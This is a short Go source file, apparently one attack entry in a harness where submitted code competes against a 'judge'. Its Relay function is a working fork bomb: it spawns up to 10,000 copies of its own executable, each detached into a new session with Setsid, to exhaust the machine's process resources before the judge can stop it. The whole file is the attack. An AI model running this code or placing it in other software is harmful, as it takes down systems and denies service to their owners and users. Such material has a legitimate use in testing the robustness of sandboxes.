// Attack: processes without end.
// Wins if: the machine gives up before the judge does.
package forkbomb

import (
	"context"
	"os"
	"os/exec"
	"syscall"

	"github.com/jackc/pgx/v5/pgxpool"
	amqp "github.com/rabbitmq/amqp091-go"
)

// Relay starts as many copies of itself as it can, each in a session of its own.
func Relay(ctx context.Context, _ *pgxpool.Pool, _ *amqp.Connection) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	for range 10_000 { // a bomb with a fuse, should the judge fail to stop it
		cmd := exec.Command(self, os.Args[1:]...)
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if cmd.Start() != nil {
			break
		}
	}
	<-ctx.Done()
	return nil
}
